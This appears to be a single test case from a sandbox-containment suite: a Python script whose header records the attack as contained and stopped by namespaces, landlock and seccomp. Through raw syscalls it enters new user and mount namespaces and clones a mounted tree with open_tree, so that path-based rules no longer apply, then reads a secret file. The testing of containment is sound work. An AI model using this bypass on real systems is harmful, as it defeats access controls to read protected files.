# attack: takes a copy of a mounted tree with open_tree, by which rules on paths are lost
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock, seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
OPEN_TREE_CLONE, AT_RECURSIVE = 1, 0x8000


def attack():
    syscall({"x86_64": 272, "aarch64": 97}, CLONE_NEWUSER)
    syscall({"x86_64": 272, "aarch64": 97}, CLONE_NEWNS)
    tree = syscall({"x86_64": 428, "aarch64": 428}, -100, FOLDER.encode(), OPEN_TREE_CLONE | AT_RECURSIVE)
    text = os.read(os.open(os.path.basename(SECRET), os.O_RDONLY, dir_fd=tree), 100)
    return f"through: {text!r}" if text.startswith(b"the secret is ") else "held: another file"
